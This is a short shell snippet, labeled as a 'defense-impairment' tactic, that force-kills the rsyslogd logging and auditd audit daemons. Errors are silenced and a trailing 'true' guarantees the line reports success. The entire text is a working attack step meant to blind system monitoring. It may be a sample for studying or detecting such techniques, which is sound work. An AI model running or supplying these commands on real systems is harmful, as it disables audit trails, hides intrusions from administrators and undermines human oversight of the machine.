# tactic: defense-impairment
# kill the logging and audit daemons
pkill -9 rsyslogd 2>/dev/null; killall auditd 2>/dev/null; true
